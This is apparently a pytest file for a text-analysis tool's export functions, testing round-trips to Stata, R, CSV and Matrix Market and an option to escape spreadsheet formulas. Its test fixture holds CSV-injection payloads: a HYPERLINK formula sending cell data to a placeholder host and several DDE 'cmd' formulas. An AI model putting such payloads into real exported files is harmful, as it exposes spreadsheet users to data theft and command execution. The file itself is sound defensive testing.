"""Exports: every table of a run round-trips through Stata and R; the DTM through Matrix Market."""

from __future__ import annotations

import datetime as dt
import json
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest
import scipy.io

from analysis.dtm import build_dtm
from analysis.errors import UsageError
from analysis.export import export_run, prepare_table, read_run_table, safe_names
from analysis.text import TextSettings

pyreadstat = pytest.importorskip("pyreadstat")
pyreadr = pytest.importorskip("pyreadr")


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory, small_corpus):
    from analysis.run.runner import run_pipeline

    out = tmp_path_factory.mktemp("run")
    run_pipeline(small_corpus, out=out, only=["compare"], use_cache=False, verbose=False, progress=False)
    # a table with everything awkward: invalid names, reserved words, dates, booleans, missing text, long text
    pd.DataFrame({
        "doc id": ["a", "b", "c"], "if": [1, 2, 3], "2020": [0.5, np.nan, 1.5],
        "ci-low": [0.1, 0.2, 0.3], "date": ["2017-09-06", None, "2020-01-01"],
        "flag": [True, False, True], "note": ["x" * 3000, None, "é ü ñ"],
        "a_very_long_column_name_that_exceeds_thirty_two_characters": [1, 2, 3],
        "a_very_long_column_name_that_exceeds_thirty_two_characters_too": [4, 5, 6],
    }).to_csv(out / "tables" / "awkward.csv", index=False)
    return out


def test_safe_names_valid_in_r_and_stata():
    names = safe_names(["doc id", "if", "2020", "ci-low", "_n", "NA", "x" * 40, "x" * 40 + "y", "ok"])
    assert len(set(v.lower() for v in names.values())) == len(names)
    for v in names.values():
        assert v[0].isalpha() and len(v) <= 32 and all(c.isalnum() or c == "_" for c in v)
        assert v.lower() not in {"if", "in", "na", "_n"}
    assert names["ok"] == "ok" and names["doc id"] == "doc_id" and names["if"] == "if_v"


def _nones(s):
    return [None if pd.isna(v) else v for v in s]


def _expected(path, to):
    df = read_run_table(path)
    exp, _ = prepare_table(df, to)
    return df, exp


def test_every_table_round_trips_through_stata(run_dir):
    paths = export_run(run_dir, "stata")
    tables = sorted((run_dir / "tables").glob("*.csv"))
    assert len(paths) == len(tables) + 1
    mapping = pd.read_csv(run_dir / "export" / "stata" / "column_names.csv")
    for t in tables:
        df, exp = _expected(t, "stata")
        back = pd.read_stata(run_dir / "export" / "stata" / f"{t.stem}.dta")
        assert list(back.columns) == list(exp.columns), t.stem
        assert list(mapping.loc[mapping.table == t.stem, "column"]) == list(df.columns)
        for col in exp.columns:
            e, b = exp[col], back[col]
            if e.dtype == object and e.map(lambda v: isinstance(v, dt.date) or v is None).all() and e.notna().any():
                assert pd.to_datetime(b).dt.date.where(b.notna(), None).tolist() == e.tolist(), (t.stem, col)
            elif pd.api.types.is_numeric_dtype(e):
                np.testing.assert_allclose(b.to_numpy(float), e.to_numpy(float), equal_nan=True, err_msg=f"{t.stem}.{col}")
            else:
                assert b.astype(str).tolist() == e.astype(str).tolist(), (t.stem, col)
    _, meta = pyreadstat.read_dta(str(run_dir / "export" / "stata" / "awkward.dta"))
    assert meta.original_variable_types["date"] == "%td"
    assert dict(zip(meta.column_names, meta.column_labels))["v_2020"] == "2020 (renamed)"
    assert dict(zip(meta.column_names, meta.column_labels))["date"] == "date of the document"


def test_every_table_round_trips_through_r(run_dir):
    export_run(run_dir, "r")
    for t in sorted((run_dir / "tables").glob("*.csv")):
        _, exp = _expected(t, "r")
        back = pyreadr.read_r(str(run_dir / "export" / "r" / f"{t.stem}.rds"))[None].reset_index(drop=True)
        assert list(back.columns) == list(exp.columns), t.stem
        for col in exp.columns:
            e, b = exp[col], back[col]
            if pd.api.types.is_bool_dtype(e):
                assert b.tolist() == e.tolist()
            elif pd.api.types.is_numeric_dtype(e):
                np.testing.assert_allclose(b.to_numpy(float), e.to_numpy(float), equal_nan=True, err_msg=f"{t.stem}.{col}")
            else:
                assert _nones(b) == _nones(e), (t.stem, col)
    awk = pyreadr.read_r(str(run_dir / "export" / "r" / "awkward.rds"))[None]
    assert awk["date"].tolist()[0] == "2017-09-06" and awk["flag"].dtype == bool


def test_matrix_market_has_identical_counts(run_dir, tmp_path):
    mtx, vocab, dv = export_run(run_dir, "mm", dest=tmp_path / "mm")
    M = scipy.io.mmread(str(mtx)).tocsr()
    terms = pd.read_csv(vocab, keep_default_na=False)["term"].tolist()
    docvars = pd.read_csv(dv)
    units = pd.read_csv(run_dir / "tables" / "units.csv")
    settings = TextSettings.from_dict(json.loads((run_dir / "run.json").read_text())["text_settings"])
    ref = build_dtm(units, id_col="unit_id", settings=settings).group("doc_id")
    order = pd.unique(units["doc_id"].astype(str))
    pos = {d: i for i, d in enumerate(ref.docvars["doc_id"])}
    expected = ref.matrix[[pos[d] for d in order]]
    assert M.dtype.kind == "i" and terms == list(ref.terms)
    assert (M != expected).nnz == 0
    assert docvars["doc_id"].astype(str).tolist() == list(order)
    assert {"year", "speaker", "n_units"} <= set(docvars.columns)
    # the per-document totals equal the tokens the run counted in units.csv
    assert M.sum() == ref.matrix.sum()
    # unit level: one row per paragraph
    mtx_u, _, dv_u = export_run(run_dir, "mm", dest=tmp_path / "mm_u", level="unit")
    assert scipy.io.mmread(str(mtx_u)).shape[0] == len(units) == len(pd.read_csv(dv_u))


def test_errors_name_the_problem(tmp_path, run_dir):
    with pytest.raises(UsageError, match="unknown export format"):
        export_run(run_dir, "spss")
    with pytest.raises(UsageError, match="tables/"):
        export_run(tmp_path, "stata")
    (tmp_path / "tables").mkdir()
    (tmp_path / "tables" / "units.csv").write_text("unit_id,doc_id,text\nu1,d1,hello world\n")
    with pytest.raises(UsageError, match="run.json"):
        export_run(tmp_path, "mm")


def test_cli_export(run_dir, tmp_path):
    r = subprocess.run([sys.executable, "-m", "analysis", "export", "--out", str(run_dir), "--to", "r",
                        "--dest", str(tmp_path / "r")], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert (tmp_path / "r" / "units.rds").is_file()
    r = subprocess.run([sys.executable, "-m", "analysis", "export", "--out", str(run_dir), "--to", "sas"],
                       capture_output=True, text=True)
    assert r.returncode == 2 and "unknown export format" in r.stderr


# ------------------------------------------------------------ spreadsheet formulas (issue 27)
FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "plain text", "a = b"]


def _formula_run(tmp_path, run_dir=None):
    out = tmp_path / "frun"
    (out / "tables").mkdir(parents=True)
    # Parquet: the values reach the exporter exactly (a bare carriage return is one of them)
    pd.DataFrame({"doc_id": [f"d{i}" for i in range(len(FORMULAS))], "speaker": FORMULAS,
                  "score": [-0.5 + i for i in range(len(FORMULAS))]}).to_parquet(out / "tables" / "documents.parquet",
                                                                               index=False)
    return out


def _read(f, to):
    if to == "stata":
        return pyreadstat.read_dta(str(f))[0]
    if to == "r":
        return pyreadr.read_r(str(f))[None]
    return pd.read_csv(f, encoding="utf-8-sig", keep_default_na=False, lineterminator="\n")


def test_exports_keep_formulas_verbatim_by_default(tmp_path):
    out = _formula_run(tmp_path)
    for to in ("stata", "r", "csv"):
        paths = export_run(out, to, dest=tmp_path / to)
        got = _read(paths[0], to)
        assert got["speaker"].tolist() == FORMULAS, to  # the data round-trip: nothing added
        assert got["score"].tolist() == [-0.5 + i for i in range(len(FORMULAS))]


def test_exports_escape_formulas_when_asked(tmp_path):
    from analysis.export import escape_formula

    out = _formula_run(tmp_path)
    want = ["'" + v for v in FORMULAS[:6]] + FORMULAS[6:]
    assert [escape_formula(v) for v in FORMULAS] == want
    assert escape_formula(-3) == -3 and escape_formula(None) is None
    for to in ("stata", "r", "csv"):
        got = _read(export_run(out, to, dest=tmp_path / to, formula_escape=True)[0], to)
        assert got["speaker"].tolist() == want, to
        assert got["score"].tolist() == [-0.5 + i for i in range(len(FORMULAS))]  # numbers untouched
    # a column name from the data is escaped too in the spreadsheet CSV
    pd.DataFrame({"=cmd|x": ["a"], "doc_id": ["d"]}).to_csv(out / "tables" / "odd.csv", index=False)
    f = next(p for p in export_run(out, "csv", dest=tmp_path / "c2", formula_escape=True) if p.stem == "odd")
    assert pd.read_csv(f, encoding="utf-8-sig").columns.tolist() == ["'=cmd|x", "doc_id"]


def test_matrix_market_docvars_formulas(run_dir, tmp_path):
    import shutil

    out = tmp_path / "mmrun"
    (out / "tables").mkdir(parents=True)
    shutil.copy(run_dir / "run.json", out / "run.json")
    shutil.copy(run_dir / "tables" / "units.csv", out / "tables" / "units.csv")
    docs = pd.read_csv(run_dir / "tables" / "documents.csv")
    one_line = [v for v in FORMULAS if "\r" not in v]  # documents.csv is read as CSV here
    docs["speaker"] = [one_line[i % len(one_line)] for i in range(len(docs))]
    docs.to_csv(out / "tables" / "documents.csv", index=False)
    plain = pd.read_csv(export_run(out, "mm", dest=tmp_path / "a")[2], keep_default_na=False)
    assert set(plain["speaker"]) <= set(one_line) and plain["speaker"].str.startswith("=").any()
    esc = pd.read_csv(export_run(out, "mm", dest=tmp_path / "b", formula_escape=True)[2], keep_default_na=False)
    assert not esc["speaker"].str.match(r"[=+\-@\t\r]").any()
    assert (esc["speaker"].str.lstrip("'") == plain["speaker"]).all()


def test_cli_export_escape_formulas(tmp_path):
    from typer.testing import CliRunner

    from analysis.cli.main import app

    out = _formula_run(tmp_path)
    res = CliRunner().invoke(app, ["export", "--out", str(out), "--to", "csv", "--dest", str(tmp_path / "c"),
                                   "--escape-formulas"])
    assert res.exit_code == 0, res.output
    got = _read(tmp_path / "c" / "documents.csv", "csv")
    assert got["speaker"].iloc[0].startswith("'=HYPERLINK")
    res = CliRunner().invoke(app, ["export", "--help"])
    assert "--escape-formulas" in res.output
